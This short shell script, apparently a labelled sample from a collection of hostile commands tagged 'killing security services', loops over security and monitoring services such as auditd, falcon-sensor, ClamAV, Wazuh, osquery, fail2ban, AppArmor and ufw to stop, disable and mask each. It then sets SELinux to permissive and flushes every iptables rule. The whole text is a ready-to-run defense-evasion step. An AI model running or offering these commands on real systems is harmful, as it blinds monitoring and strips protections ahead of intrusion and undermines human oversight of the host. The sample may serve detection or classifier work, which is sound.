# class: killing security services; style: loop
for s in auditd falcon-sensor clamav-daemon wazuh-agent osqueryd fail2ban apparmor ufw; do
    systemctl stop "$s"; systemctl disable "$s"; systemctl mask "$s"
done
setenforce 0
iptables -F; iptables -X
